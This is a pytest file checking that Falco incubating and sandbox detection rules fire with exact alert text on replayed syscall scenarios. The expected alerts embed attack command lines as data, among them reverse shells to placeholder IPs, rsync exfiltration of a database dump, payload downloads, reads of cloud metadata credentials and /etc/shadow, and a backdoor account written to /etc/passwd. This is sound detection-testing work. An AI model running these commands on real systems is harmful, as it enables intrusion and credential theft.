"""Upstream incubating and sandbox rules against hand-written syscall scenarios.

For each rule below, ``tests/scenarios/<maturity>/<rule-slug>.fire.yaml`` is an attack the rule
exists to catch: replayed with the stable, incubating and sandbox packs loaded together (as a Falco
user loads them), the rule fires the expected number of times with exactly the message below, and
the alert's text line is ``<time>: <Priority> <message>``. ``<rule-slug>.miss.yaml`` is the same
scenario with one detail the condition depends on changed (named in a ``# changed:`` comment), and
the rule stays quiet.

Rules the sandbox pack ships with ``enabled: false`` are replayed the way a user turns them on:
``-o rules[].disable.rule=*`` followed by ``-o rules[].enable.tag=maturity_sandbox``.
"""

from __future__ import annotations

import re
import time
from dataclasses import dataclass
from pathlib import Path

import pytest
from conftest import INCUBATING, SANDBOX, STABLE

from falcorules_ci import Ruleset, load_ruleset
from falcorules_ci.engine.alerts import Alert
from falcorules_ci.engine.options import EngineOptions
from falcorules_ci.engine.replay import replay

SCENARIOS = Path(__file__).resolve().parent / "scenarios"
MATURITIES = ("incubating", "sandbox")
MIN_RULES_PER_MATURITY = 12
MIN_RULES_TOTAL = 20

# Falco's default append_output.suggested_output adds the container plugin's fields to every
# syscall rule's output.
HOST = ("container_id=host container_name=host container_image_repository= container_image_tag= "
        "k8s_pod_name=<NA> k8s_ns_name=<NA>")


def in_container(cid: str, name: str, repository: str, tag: str, pod: str = "<NA>", namespace: str = "<NA>") -> str:
    """The suggested-output tail of an event in a container."""
    return (f"container_id={cid} container_name={name} container_image_repository={repository} "
            f"container_image_tag={tag} k8s_pod_name={pod} k8s_ns_name={namespace}")


@dataclass(frozen=True, slots=True)
class Case:
    rule: str
    maturity: str  # which pack defines the rule: incubating or sandbox
    priority: str
    head: str  # the rule's own output
    tail: str  # the container plugin's suggested output
    count: int = 1  # alerts the fire scenario raises for this rule

    @property
    def message(self) -> str:
        return f"{self.head} {self.tail}"

    @property
    def slug(self) -> str:
        return rule_slug(self.rule)

    def scenario(self, kind: str) -> Path:
        return SCENARIOS / self.maturity / f"{self.slug}.{kind}.yaml"


def rule_slug(rule: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", rule.lower()).strip("-")


CASES = [
    Case("Change thread namespace", "incubating", "Notice",
         "Namespace change (setns) by unexpected program | evt_type=setns user=root user_uid=0 user_loginuid=-1 "
         "process=nsenter proc_exepath=/usr/bin/nsenter parent=sh command=nsenter -t 1 -m /bin/sh terminal=0",
         in_container("3f6c2d8e9a71", "debug", "docker.io/library/alpine", "3.19")),
    Case("Change namespace privileges via unshare", "incubating", "Notice",
         "Change namespace privileges via unshare | res=EPERM evt_type=unshare user=root user_uid=0 "
         "user_loginuid=-1 process=unshare proc_exepath=/usr/bin/unshare parent=bash command=unshare -m /bin/sh "
         "terminal=0",
         in_container("5b1e0c2a9f3d", "app", "docker.io/library/ubuntu", "22.04")),
    Case("Launch Privileged Container", "incubating", "Informational",
         "Privileged container started | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=sh "
         "proc_exepath=/bin/sh parent=runc:[1:CHILD] command=sh -c sleep infinity terminal=0",
         in_container("9c4d2e7f1a0b", "toolbox", "docker.io/library/alpine", "3.19")),
    Case("Launch Excessively Capable Container", "incubating", "Informational",
         "Excessively capable container started | cap_permitted=CAP_CHOWN CAP_DAC_OVERRIDE CAP_FOWNER CAP_FSETID "
         "CAP_KILL CAP_SETGID CAP_SETUID CAP_SETPCAP CAP_NET_BIND_SERVICE CAP_NET_RAW CAP_SYS_CHROOT "
         "CAP_SYS_ADMIN CAP_MKNOD CAP_AUDIT_WRITE CAP_SETFCAP evt_type=execve user=root user_uid=0 "
         "user_loginuid=-1 process=worker proc_exepath=/usr/local/bin/worker parent=runc:[1:CHILD] "
         "command=worker --serve terminal=0",
         in_container("2f8a6b3c9d1e", "worker", "docker.io/library/debian", "12")),
    Case("Program run with disallowed http proxy env", "incubating", "Notice",
         "Curl or wget run with disallowed HTTP_PROXY environment variable | "
         "env=HTTP_PROXY=http://203.0.113.40:3128 PATH=/usr/bin:/bin evt_type=execve user=root user_uid=0 "
         "user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl parent=sh command=curl "
         "https://api.example.com/v1/token terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
         in_container("1a2b3c4d5e6f", "job", "docker.io/curlimages/curl", "8.5.0")),
    Case("Unexpected UDP Traffic", "incubating", "Notice",
         "Unexpected UDP Traffic Seen | connection=192.168.10.20:40000->203.0.113.9:4444 lport=40000 rport=4444 "
         "fd_type=ipv4 fd_proto=udp evt_type=connect user=root user_uid=0 user_loginuid=-1 process=bash "
         "proc_exepath=/bin/bash parent=systemd command=bash -c bash -i >& /dev/udp/203.0.113.9/4444 0>&1 "
         "terminal=0",
         HOST),
    Case("Non sudo setuid", "incubating", "Notice",
         "Unexpected setuid call by non-sudo, non-root program | arg_uid=root evt_type=setuid user=www-data "
         "user_uid=33 user_loginuid=-1 process=php-fpm8.2 proc_exepath=/usr/sbin/php-fpm8.2 parent=php-fpm8.2 "
         "command=php-fpm8.2 terminal=0",
         HOST),
    Case("User mgmt binaries", "incubating", "Notice",
         "User management binary command run outside of container | gparent=sshd ggparent=systemd gggparent=<NA> "
         "evt_type=execve user=root user_uid=0 user_loginuid=0 process=useradd proc_exepath=/usr/sbin/useradd "
         "parent=bash command=useradd -m -s /bin/bash backdoor terminal=34816 exe_flags=EXE_WRITABLE",
         HOST),
    Case("Create files below dev", "incubating", "Error",
         "File created below /dev by untrusted program | file=/dev/.lock-xmr evt_type=openat user=root "
         "user_uid=0 user_loginuid=-1 process=.sysupd proc_exepath=/var/tmp/.sysupd parent=systemd "
         "command=.sysupd --install terminal=0",
         HOST),
    Case("Contact EC2 Instance Metadata Service From Container", "incubating", "Notice",
         "Outbound connection to EC2 instance metadata service | connection=172.17.0.2:40000->169.254.169.254:80 "
         "lport=40000 rport=80 fd_type=ipv4 fd_proto=tcp evt_type=connect user=root user_uid=0 user_loginuid=-1 "
         "process=curl proc_exepath=/usr/bin/curl parent=sh command=curl "
         "http://169.254.169.254/latest/meta-data/iam/security-credentials/ terminal=0",
         in_container("7e3f9a1b2c4d", "api", "docker.io/library/python", "3.12-slim")),
    Case("Contact cloud metadata service from container", "incubating", "Notice",
         "Outbound connection to cloud instance metadata service | "
         "connection=10.244.0.2:40000->169.254.169.254:80 lport=40000 rport=80 fd_type=ipv4 fd_proto=tcp "
         "evt_type=connect user=root user_uid=0 user_loginuid=-1 process=python3.12 "
         "proc_exepath=/usr/local/bin/python3.12 parent=containerd-shim command=python3.12 -m gunicorn app:app "
         "terminal=0",
         in_container("1d2c3b4a5f6e", "app", "ghcr.io/example/shop-api", "1.4.2", "shop-api-6c9b7", "shop")),
    Case("Launch Package Management Process in Container", "incubating", "Error",
         "Package management process launched in container | evt_type=execve user=root user_uid=0 "
         "user_loginuid=-1 process=apt-get proc_exepath=/usr/bin/apt-get parent=sh command=apt-get install -y "
         "ncat terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
         in_container("4a7c1e9b3d2f", "web", "docker.io/library/nginx", "1.25")),
    Case("Launch Suspicious Network Tool in Container", "incubating", "Notice",
         "Network tool launched in container | evt_type=execve user=root user_uid=0 user_loginuid=-1 "
         "process=nmap proc_exepath=/usr/bin/nmap parent=bash command=nmap -sS -p- 10.96.0.0/12 terminal=0 "
         "exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
         in_container("3c8e2a7f9b1d", "api", "ghcr.io/example/orders", "2.0.1", "orders-5f7d8", "shop")),
    Case("Delete or rename shell history", "incubating", "Warning",
         "Shell history deleted or renamed | file= name=/root/.bash_history path=<NA> oldpath=<NA> "
         "evt_type=unlinkat user=root user_uid=0 user_loginuid=-1 process=rm proc_exepath=/bin/rm parent=bash "
         "command=rm -f /root/.bash_history terminal=0",
         in_container("6f1a2b3c4d5e", "app", "docker.io/library/ubuntu", "22.04")),
    Case("Set Setuid or Setgid bit", "incubating", "Notice",
         "Setuid or setgid bit is set via chmod | fd=<NA> filename=/tmp/.bash "
         "mode=S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR|S_ISUID evt_type=fchmodat user=root "
         "user_uid=0 user_loginuid=-1 process=chmod proc_exepath=/bin/chmod parent=bash command=chmod u+s "
         "/tmp/.bash terminal=0",
         in_container("8b2d4f6a1c3e", "app", "docker.io/library/debian", "12")),
    Case("Launch Remote File Copy Tools in Container", "incubating", "Notice",
         "Remote file copy tool launched in container | evt_type=execve user=root user_uid=0 user_loginuid=-1 "
         "process=rsync proc_exepath=/usr/bin/rsync parent=bash command=rsync -az /var/lib/postgresql/dump.sql "
         "exfil@198.51.100.23:/srv/ terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
         in_container("0e9d8c7b6a5f", "db", "docker.io/library/postgres", "16")),
    Case("Mount Launched in Privileged Container", "incubating", "Warning",
         "Mount was executed inside a privileged container | evt_type=execve user=root user_uid=0 "
         "user_loginuid=-1 process=mount proc_exepath=/bin/mount parent=sh command=mount /dev/sda1 /mnt "
         "terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
         in_container("c0ffee123456", "debug", "docker.io/library/alpine", "3.19")),
    Case("Launch Ingress Remote File Copy Tools in Container", "incubating", "Notice",
         "Ingress remote file copy tool launched in container | evt_type=execve user=<NA> user_uid=33 "
         "user_loginuid=-1 process=curl proc_exepath=/usr/bin/curl parent=sh command=curl -s -o /tmp/kinsing "
         "http://198.51.100.77/kinsing terminal=0 exe_flags=EXE_LOWER_LAYER",
         in_container("5e4d3c2b1a09", "web", "docker.io/library/php", "8.2-apache")),
    Case("Read environment variable from /proc files", "incubating", "Warning",
         "Environment variables were retrieved from /proc files | file=/proc/1/environ gparent=containerd-shim "
         "ggparent=systemd gggparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=cat "
         "proc_exepath=/bin/cat parent=sh command=cat /proc/1/environ terminal=0",
         in_container("9f8e7d6c5b4a", "api", "ghcr.io/example/payments", "3.1.0")),
    Case("Exfiltrating Artifacts via Kubernetes Control Plane", "incubating", "Notice",
         "Exfiltrating Artifacts via Kubernetes Control Plane | file=/var/lib/postgresql/data/backup.sql "
         "evt_type=openat user=root user_uid=0 user_loginuid=-1 process=tar proc_exepath=/bin/tar "
         "parent=runc:[1:CHILD] command=tar cf - /var/lib/postgresql/data/backup.sql terminal=0",
         in_container("b23344556677", "db", "docker.io/library/postgres", "16", "db-0", "prod")),
    Case("Adding ssh keys to authorized_keys", "incubating", "Warning",
         "Adding ssh keys to authorized_keys | file=/root/.ssh/authorized_keys evt_type=openat user=root "
         "user_uid=0 user_loginuid=-1 process=bash proc_exepath=/bin/bash parent=systemd command=bash -c echo "
         "ssh-ed25519 AAAA... >> /root/.ssh/authorized_keys terminal=0",
         HOST),
    Case("Potential Local Privilege Escalation via Environment Variables Misuse", "incubating", "Notice",
         "Process run with suspect environment variable which could be attempting privilege escalation | "
         "env=GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A PATH=/usr/bin:/bin evt_type=execve "
         "user=alice user_uid=1000 user_loginuid=1000 process=su proc_exepath=/usr/bin/su parent=bash command=su "
         "--help terminal=34817 exe_flags=0",
         HOST),
    Case("Backdoored library loaded into SSHD (CVE-2024-3094)", "incubating", "Warning",
         "SSHD loaded a backdoored version of liblzma library /lib/x86_64-linux-gnu/liblzma.so.5.6.1 with parent "
         "sshd and cmdline sshd -D -R | process=sshd parent=sshd file=/lib/x86_64-linux-gnu/liblzma.so.5.6.1 "
         "evt_type=openat user=root user_uid=0 user_loginuid=-1 proc_exepath=/usr/sbin/sshd command=sshd -D -R "
         "terminal=0 exe_flags=O_RDONLY|O_CLOEXEC",
         HOST),
    Case("BPF Program Not Profiled", "incubating", "Notice",
         "BPF Program Not Profiled | bpf_cmd=BPF_PROG_LOAD evt_type=bpf user=root user_uid=0 user_loginuid=-1 "
         "process=bpfdoor proc_exepath=/tmp/.cache/bpfdoor parent=systemd command=bpfdoor --hide terminal=0",
         HOST),
    Case("Update Package Repository", "sandbox", "Notice",
         "Repository files get updated | newpath=<NA> file=/etc/apt/sources.list.d/extra.list "
         "pcmdline=containerd-shim -namespace moby -id "
         "6a5b4c3d2e1fc13493c00840a71bc64eccd68108346b807ce6b48fac126667cd -address "
         "/run/containerd/containerd.sock evt_type=openat user=root user_uid=0 user_loginuid=-1 process=bash "
         "proc_exepath=/bin/bash parent=containerd-shim command=bash -c echo deb http://203.0.113.8/debian "
         "stable main > /etc/apt/sources.list.d/extra.list terminal=0",
         in_container("6a5b4c3d2e1f", "builder", "docker.io/library/debian", "12")),
    Case("Write below binary dir", "sandbox", "Error",
         "File below a known binary directory opened for writing | file=/usr/bin/ps pcmdline=containerd-shim "
         "-namespace moby -id aa11bb22cc33ec5c0d8bf1a4031d427d28a69ce8692d34cbe675e75268570a66 -address "
         "/run/containerd/containerd.sock gparent=systemd evt_type=openat user=root user_uid=0 user_loginuid=-1 "
         "process=dropper proc_exepath=/tmp/.d/dropper parent=containerd-shim command=dropper terminal=0",
         in_container("aa11bb22cc33", "app", "docker.io/library/ubuntu", "22.04")),
    Case("Write below monitored dir", "sandbox", "Error",
         "File below a monitored directory opened for writing | file=/usr/local/lib/libprocesshider.so "
         "pcmdline=systemd gparent=<NA> evt_type=openat user=root user_uid=0 user_loginuid=-1 process=inst "
         "proc_exepath=/var/tmp/.x/inst parent=systemd command=inst -q terminal=0",
         HOST),
    Case("Write below etc", "sandbox", "Error",
         "File below /etc opened for writing | file=/etc/passwd pcmdline=containerd-shim -namespace moby -id "
         "dd44ee55ff66e47f15bdfeca490f684c115ccd5bb90a75c1031859006cfcc29c -address "
         "/run/containerd/containerd.sock gparent=systemd ggparent=<NA> gggparent=<NA> evt_type=openat user=root "
         "user_uid=0 user_loginuid=-1 process=sh proc_exepath=/bin/sh parent=containerd-shim command=sh -c echo "
         "'toor::0:0::/root:/bin/sh' >> /etc/passwd terminal=0",
         in_container("dd44ee55ff66", "app", "docker.io/library/alpine", "3.19")),
    Case("Write below root", "sandbox", "Error",
         "File below / or /root opened for writing | file=/root/.x.sh evt_type=openat user=root user_uid=0 "
         "user_loginuid=-1 process=python3 proc_exepath=/usr/bin/python3 parent=containerd-shim command=python3 "
         "-c open('/root/.x.sh','w') terminal=0",
         in_container("0a1b2c3d4e5f", "web", "docker.io/library/php", "8.2-apache")),
    Case("Modify binary dirs", "sandbox", "Error",
         "File below known binary directory renamed/removed | file=<NA> pcmdline=bash install.sh evt_args=res=0 "
         "olddirfd=-100(AT_FDCWD) oldpath=/usr/bin/ls newdirfd=-100(AT_FDCWD) newpath=/usr/bin/.ls.orig flags=0 "
         "evt_type=renameat2 evt_type=renameat2 user=root user_uid=0 user_loginuid=-1 process=mv "
         "proc_exepath=/bin/mv parent=bash command=mv /usr/bin/ls /usr/bin/.ls.orig terminal=0",
         HOST),
    Case("Mkdir binary dirs", "sandbox", "Error",
         "Directory below known binary directory created | directory=/usr/bin/.cache evt_type=mkdirat user=root "
         "user_uid=0 user_loginuid=-1 process=.kworker proc_exepath=/var/tmp/.kworker parent=systemd "
         "command=.kworker -d terminal=0",
         HOST),
    Case("Launch Sensitive Mount Container", "sandbox", "Informational",
         "Container with sensitive mount started | "
         "mounts=/var/run/docker.sock:/var/run/docker.sock::true:rprivate evt_type=execve user=root user_uid=0 "
         "user_loginuid=-1 process=docker proc_exepath=/usr/local/bin/docker parent=runc:[1:CHILD] "
         "command=docker ps terminal=0",
         in_container("a2b3c4d5e6f7", "ci-runner", "docker.io/library/docker", "25-cli")),
    Case("Detect crypto miners using the Stratum protocol", "sandbox", "Critical",
         "Possible miner running | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=kworkerd "
         "proc_exepath=/tmp/kworkerd parent=sh command=kworkerd -o stratum+tcp://pool.example.net:3333 -u "
         "44AFFq5kSiGBoZ terminal=0 exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER",
         in_container("8f7e6d5c4b3a", "worker", "registry.example.com/batch/worker", "2.3")),
    Case("Kubernetes Client Tool Launched in Container", "sandbox", "Warning",
         "Kubernetes Client Tool Launched in Container | evt_type=execve user=root user_uid=0 user_loginuid=-1 "
         "process=kubectl proc_exepath=/tmp/kubectl parent=sh command=kubectl get secrets -A -o yaml terminal=0 "
         "exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER",
         in_container("7f8091a2b3c4", "api", "ghcr.io/example/orders", "2.0.1", "orders-5f7d8", "shop")),
    Case("Container Drift Detected (chmod)", "sandbox", "Error",
         "Drift detected (chmod), new executable created in a container | filename=/tmp/payload name=<NA> "
         "mode=S_IXOTH|S_IROTH|S_IXGRP|S_IRGRP|S_IXUSR|S_IWUSR|S_IRUSR evt_type=fchmodat user=root user_uid=0 "
         "user_loginuid=-1 process=chmod proc_exepath=/bin/chmod parent=sh command=chmod +x /tmp/payload "
         "terminal=0",
         in_container("c4d5e6f70819", "web", "docker.io/library/nginx", "1.25")),
    Case("Container Run as Root User", "sandbox", "Informational",
         "Container launched with root user privilege | evt_type=execve user=root user_uid=0 user_loginuid=-1 "
         "process=orders proc_exepath=/usr/local/bin/orders parent=runc:[1:CHILD] command=orders --port 8080 "
         "terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
         in_container("d5e6f708192a", "api", "ghcr.io/example/orders", "2.0.1")),
    Case("Sudo Potential Privilege Escalation", "sandbox", "Critical",
         "Detect Sudo Privilege Escalation Exploit (CVE-2021-3156) | evt_type=execve user=alice user_uid=1000 "
         "user_loginuid=1000 process=sudoedit proc_exepath=/usr/bin/sudoedit parent=bash command=sudoedit -s \\ "
         "terminal=34816 exe_flags=0",
         HOST),
    Case("Unprivileged Delegation of Page Faults Handling to a Userspace Process", "sandbox", "Critical",
         "An userfaultfd syscall was successfully executed by an unprivileged user | evt_type=userfaultfd "
         "user=alice user_uid=1000 user_loginuid=1000 process=exp proc_exepath=/home/alice/exp parent=systemd "
         "command=exp terminal=0",
         HOST),
    Case("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", "sandbox", "Critical",
         "Detect Polkit pkexec Local Privilege Escalation Exploit (CVE-2021-4034) | args= evt_type=execve "
         "user=alice user_uid=1000 user_loginuid=1000 process=pkexec proc_exepath=/usr/bin/pkexec parent=pwnkit "
         "command=pkexec terminal=34816 exe_flags=0",
         HOST),
    Case("Java Process Class File Download", "sandbox", "Critical",
         "Java process class file download | server_ip=198.51.100.9 server_port=8000 "
         "connection=172.17.0.2:40000->198.51.100.9:8000 lport=40000 rport=8000 fd_type=ipv4 fd_proto=tcp "
         "evt_type=recvfrom user=root user_uid=0 user_loginuid=-1 process=java "
         "proc_exepath=/opt/java/openjdk/bin/java parent=containerd-shim command=java -jar app.jar terminal=0",
         in_container("a12233445566", "app", "docker.io/library/tomcat", "10")),
    Case("Modify Container Entrypoint", "sandbox", "Warning",
         "Detect Potential Container Breakout Exploit (CVE-2019-5736) | file=/proc/self/fd/3 evt_type=openat "
         "user=root user_uid=0 user_loginuid=-1 process=overwrite-runc proc_exepath=/tmp/overwrite-runc "
         "parent=sh command=overwrite-runc terminal=0",
         in_container("b3c4d5e6f708", "evil", "ghcr.io/example/evil", "latest")),
    Case("Decoding Payload in Container", "sandbox", "Informational",
         "Decoding Payload in Container | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=base64 "
         "proc_exepath=/usr/bin/base64 parent=sh command=base64 -d terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
         in_container("7b6a5f4e3d2c", "api", "ghcr.io/example/orders", "2.0.1")),
    Case("Basic Interactive Reconnaissance", "sandbox", "Notice",
         "Basic Interactive Reconnaissance | evt_type=execve user=alice user_uid=1000 user_loginuid=1000 "
         "process=whoami proc_exepath=/usr/bin/whoami parent=bash command=whoami terminal=34818 exe_flags=0",
         HOST),
    Case("Netcat/Socat Remote Code Execution on Host", "sandbox", "Warning",
         "Netcat/Socat runs on host that allows remote code execution | evt_type=execve user=root user_uid=0 "
         "user_loginuid=-1 process=socat proc_exepath=/usr/bin/socat parent=bash command=socat "
         "TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash,pty,stderr terminal=0 exe_flags=EXE_WRITABLE",
         HOST),
    Case("Network Tool Executed During NPM Package Install", "sandbox", "Warning",
         "Network tool executed during NPM package installation | evt_type=execve user=root user_uid=0 "
         "user_loginuid=-1 process=nc proc_exepath=/bin/nc parent=sh command=nc 203.0.113.66 9001 terminal=0 "
         "gparent=npm ggparent=containerd-shim gggparent=systemd exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
         in_container("8091a2b3c4d5", "build", "docker.io/library/node", "20")),
    Case("Known Cryptominer Process Executed", "sandbox", "Critical",
         "Cryptominer process executed | process=xmrig exe=/opt/xmrig/xmrig evt_type=execve user=root user_uid=0 "
         "user_loginuid=-1 parent=sh command=xmrig --config /opt/xmrig/config.json terminal=0 "
         "exe_flags=EXE_WRITABLE|EXE_UPPER_LAYER",
         in_container("3e2d1c0b9a8f", "worker", "registry.example.com/batch/worker", "2.3")),
    Case("Web Server Spawned Shell", "sandbox", "Critical",
         "Web server spawned shell | shell=sh web_server=php-fpm gparent=php-fpm ggparent=containerd-shim "
         "evt_type=execve user=<NA> user_uid=33 user_loginuid=-1 command=sh -c id; uname -a terminal=0 "
         "exe=/bin/sh exe_flags=EXE_LOWER_LAYER",
         in_container("2b3c4d5e6f70", "shop", "docker.io/library/php", "8.2-fpm")),
    Case("Web Server Spawned Suspicious Child Process", "sandbox", "Warning",
         "Web server spawned suspicious child process | child=curl web_server=gunicorn gparent=gunicorn "
         "evt_type=execve user=root user_uid=0 user_loginuid=-1 command=curl -s http://198.51.100.7/stage2 "
         "terminal=0 exe_flags=EXE_WRITABLE|EXE_LOWER_LAYER",
         in_container("91a2b3c4d5e6", "app", "ghcr.io/example/flask-app", "1.2")),
    Case("Reverse Shell from Web Server", "sandbox", "Critical",
         "Reverse shell spawned from web server | process=bash web_server=apache2 evt_type=execve user=<NA> "
         "user_uid=33 user_loginuid=-1 command=bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1 terminal=0 "
         "exe_flags=EXE_LOWER_LAYER",
         in_container("4c5d6e7f8091", "blog", "docker.io/library/wordpress", "6.4-apache")),
    Case("Privileged Container Device Access", "sandbox", "Critical",
         "Container accessing block device | device=/dev/sda evt_type=openat user=root user_uid=0 "
         "user_loginuid=-1 process=dd proc_exepath=/bin/dd parent=sh command=dd if=/dev/sda of=/tmp/mbr bs=512 "
         "count=1 terminal=0",
         in_container("5d6e7f809aab", "debug", "docker.io/library/alpine", "3.19")),
    Case("Container Access to Host Sensitive Paths", "sandbox", "Warning",
         "Container accessing host filesystem paths | file=/host/etc/shadow evt_type=openat user=root user_uid=0 "
         "user_loginuid=-1 process=cat proc_exepath=/bin/cat parent=sh command=cat /host/etc/shadow terminal=0",
         in_container("6e7f8091a2b3", "agent", "ghcr.io/example/node-agent", "0.9")),
]
RULE_IDS = [case.rule for case in CASES]


@pytest.fixture(scope="module")
def ruleset(upstream: Path) -> Ruleset:
    return load_ruleset([STABLE, INCUBATING, SANDBOX])


def options_for(ruleset: Ruleset, rule: str) -> EngineOptions:
    enabled_tags: frozenset[str] = frozenset()
    if not ruleset.rule(rule).enabled:
        # Disabled by default: enable the rule's maturity level, as a Falco user would.
        enabled_tags = frozenset(t for t in ruleset.rule(rule).tags if t.startswith("maturity_"))
    return EngineOptions(rule_matching="all", hostname="test-host", timezone="UTC", enabled_tags=enabled_tags)


def text_time(ts: int) -> str:
    """Falco's text-output time in UTC: HH:MM:SS.nnnnnnnnn."""
    seconds, nanos = divmod(ts, 1_000_000_000)
    return time.strftime("%H:%M:%S", time.gmtime(seconds)) + f".{nanos:09d}"


def replay_for(ruleset: Ruleset, case: Case, kind: str) -> tuple[list[Alert], int]:
    run = replay(ruleset, [case.scenario(kind)], options_for(ruleset, case.rule))
    alerts = [alert for alert in run if alert.rule == case.rule]
    return alerts, sum(run.events_read.values())


@pytest.mark.parametrize("case", CASES, ids=RULE_IDS)
def test_fire_scenario_raises_the_exact_alert(ruleset: Ruleset, case: Case) -> None:
    alerts, events = replay_for(ruleset, case, "fire")
    assert events > 0
    assert [a.message for a in alerts] == [case.message] * case.count
    for alert in alerts:
        assert alert.priority.label == case.priority
        assert alert.output == f"{text_time(alert.time)}: {case.priority} {case.message}"
        assert alert.hostname == "test-host"
        assert alert.source == "syscall"


@pytest.mark.parametrize("case", CASES, ids=RULE_IDS)
def test_near_miss_scenario_stays_quiet(ruleset: Ruleset, case: Case) -> None:
    alerts, events = replay_for(ruleset, case, "miss")
    assert events > 0
    assert alerts == []


@pytest.mark.parametrize("case", CASES, ids=RULE_IDS)
def test_case_names_an_upstream_rule_of_its_maturity(ruleset: Ruleset, case: Case) -> None:
    rule = ruleset.rule(case.rule)
    assert f"maturity_{case.maturity}" in rule.tags
    pack = INCUBATING if case.maturity == "incubating" else SANDBOX
    assert rule.span is not None and Path(rule.span.path).resolve() == pack.resolve()
    miss = case.scenario("miss").read_text(encoding="utf-8")
    assert "# changed:" in miss, "a near miss names the detail it changes"


def test_every_scenario_file_belongs_to_a_case() -> None:
    expected = {case.scenario(kind) for case in CASES for kind in ("fire", "miss")}
    found = {path for maturity in MATURITIES for path in (SCENARIOS / maturity).glob("*.yaml")}
    assert found == expected, f"scenarios without a case: {sorted(map(str, found - expected))}"


def test_enough_rules_are_proven_per_maturity() -> None:
    assert len(set(RULE_IDS)) == len(CASES)
    assert len(CASES) >= MIN_RULES_TOTAL
    for maturity in MATURITIES:
        assert sum(c.maturity == maturity for c in CASES) >= MIN_RULES_PER_MATURITY
